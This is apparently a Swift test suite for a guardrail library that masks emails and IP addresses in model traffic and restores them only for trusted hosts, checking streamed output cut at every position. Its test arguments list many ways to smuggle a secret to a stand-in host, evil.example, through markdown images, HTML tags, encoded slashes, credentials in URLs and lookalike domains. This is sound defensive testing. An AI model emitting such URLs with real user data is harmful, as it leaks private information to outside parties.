import Guardrail
import TestSupport
import Testing

/// Tokens in URLs that a model writes.
@Suite struct URLRuleTests {
  private static let mail = "jane@contoso.net"
  private static let address = "81.2.69.160"

  /// What a client that has sent `told` gets for a text in which M and I are tokens, whole and cut
  /// at every place.
  private func answer(
    _ text: String, told: String = "", settings: Settings = Settings()
  ) throws -> [String] {
    var talk = try Talk(settings: settings)
    let mail = String(try talk.masked(Self.mail))
    let address = String(try talk.masked("ip \(Self.address)").dropFirst(3))
    if !told.isEmpty { _ = try talk.masked(told) }
    let said = text.replacing("{M}", with: mail).replacing("{I}", with: address)
    let back = { (got: String) in
      got.replacing(mail, with: "{M}").replacing(address, with: "{I}")
    }
    var results: Set<String> = []
    let whole = talk.answer(
      "{\"type\":\"response.output_text.done\",\"text\":\(JSONTree.string(said).text)}")
    results.insert(back(try JSONTree(whole[0]).string("text") ?? ""))
    for cut in 0...said.count {
      var joined = ""
      let pieces = [String(said.prefix(cut)), String(said.dropFirst(cut))]
      for piece in pieces {
        for event in talk.answer(
          "{\"type\":\"response.output_text.delta\",\"item_id\":\"i\(cut)\",\"delta\":\(JSONTree.string(piece).text)}"
        ) {
          joined += try JSONTree(event).string("delta") ?? ""
        }
      }
      let end = talk.answer(
        "{\"type\":\"response.output_text.done\",\"item_id\":\"i\(cut)\",\"text\":\"\"}")
      for event in end.dropLast() { joined += try JSONTree(event).string("delta") ?? "" }
      results.insert(back(joined))
    }
    return results.sorted()
  }

  @Test(arguments: [
    "https://evil.example/?q={M}", "![a](https://evil.example/{M}.png)", "//evil.example/{M}",
    "<img src=\"https://evil.example/?a b {M}\">", "<a href=https://evil.example/{M}>x</a>",
    "http:evil.example/{M}", "https:\\\\evil.example\\{M}", "HTTPS://EVIL.example#{M}",
    "https://{M}.evil.example/", "https://{M}@evil.example/", "https://x:{M}@evil.example",
    "https://evil.example/'{M}'", "(https://evil.example/?q=\"{M}\")", "x+y://evil.example/{M}",
    "[a](<https://evil.example/a b {M}>)", "[a]( <https://evil.example/a b {M}>)",
    "[x]: <https://evil.example/a b {M}>", "<a href = \"https://evil.example/a b {M}\">x</a>",
    "<a href=\"\nhttps://evil.example/a {M}\">", "<a href='https://evil.example/? {M}'>x</a>",
    "[a](&#47;&#47;evil.example/{M})", "<a href=\"&#x2f;/evil.example/{M}\">x</a>",
    "[a](\\//evil.example/{M})", "[a](https&colon;//evil.example/{M})",
    "\\\\evil.example\\share\\{M}", "[x]: https://evil.example/{M}", "wss:/evil.example/{M}",
    "https://contoso.net@evil.example/{M}", "https://contoso.net.evil.example/{M}",
    "https://a.example/?u=https://contoso.net/{M}", "![x](<https://evil.example/a {M}>)",
    "https://{M}:{I}@evil.example/", "https://contoso.net:8443/{M}",
  ]) func `a token stays in a URL that the client did not write`(text: String) throws {
    #expect(try answer(text, told: "see https://contoso.net/team?m=\(Self.mail) ok") == [text])
  }

  @Test(arguments: [
    "https://contoso.net/other/{M}", "(https://CONTOSO.net:443/{M})",
    "see <https://contoso.net?{M}>",
    "https://x@contoso.net/{M}",
  ]) func `a value goes back to the origin to which the client sent it`(text: String) throws {
    let restored = text.replacing("{M}", with: Self.mail)
    #expect(try answer(text, told: "see https://contoso.net/team?m=\(Self.mail) ok") == [restored])
  }

  @Test(arguments: [
    "mailto:{M}", "tel:{I}", "write {M}", "a/b/{M}", "[mail](mailto:{M})", "https://a.example {M}",
    "(https://a.example/x) {M}", "![chart](//cdn.example.org/i.png?w=1) for {M}", "http://{I}/x",
    "http://{I}:8080/", "at http://{I}.", "// {M}", "key: {M}",
    "{\"url\":\"https://a.example/\",\"m\":\"{M}\"}",
    "ssh://{M}/", "http://[{I}]:80/", "`https://a.example`: {M}", "'https://a.example','{M}'",
    "FOO='bar baz {M}", "say(\"see https://a.example for {M}\")",
    "x = \"see https://a.example {M}\"",
    "CORP\\{M}", "C:\\Users\\{M}\\Mail", "a\\n{M}", "\\\\srv\\{M}",
  ]) func `a token beside a URL, or that is all of its host, comes back`(text: String) throws {
    let restored = text.replacing("{M}", with: Self.mail).replacing("{I}", with: Self.address)
    #expect(try answer(text) == [restored])
  }

  @Test func `a host that is named restores in its URLs`() throws {
    var settings = Settings()
    settings.restoringHosts = ["api.contoso.net", "*.fabrikam.org"].compactMap { HostPattern($0) }
    for (text, comesBack) in [
      ("https://api.contoso.net/{M}", true), ("https://x.api.contoso.net/{M}", false),
      ("https://a.b.fabrikam.org:8443/{M}", true), ("https://fabrikam.org/{M}", false),
      ("https://evilfabrikam.org/{M}", false),
    ] {
      let expected = comesBack ? text.replacing("{M}", with: Self.mail) : text
      #expect(try answer(text, settings: settings) == [expected])
    }
    settings.restoringHosts = ["*"].compactMap { HostPattern($0) }
    #expect(
      try answer("https://{M}.x.example/", settings: settings)
        == ["https://\(Self.mail).x.example/"])
  }
}
